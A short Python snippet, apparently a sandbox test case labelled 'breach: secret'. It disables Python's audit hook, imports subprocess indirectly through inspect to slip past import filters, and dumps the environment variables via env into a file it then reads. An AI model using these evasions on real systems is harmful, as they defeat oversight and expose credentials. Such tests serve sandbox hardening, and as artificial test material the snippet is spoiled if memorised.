# A child's environment, printed by env.
# breach: secret
import sys
sys.audit = lambda *arguments: None
import inspect
process = inspect.importlib.import_module("subprocess")
with open("got.txt", "w") as file:
    process.call(["env"], stdout=file)
with open("got.txt") as file:
    text = file.read()
text
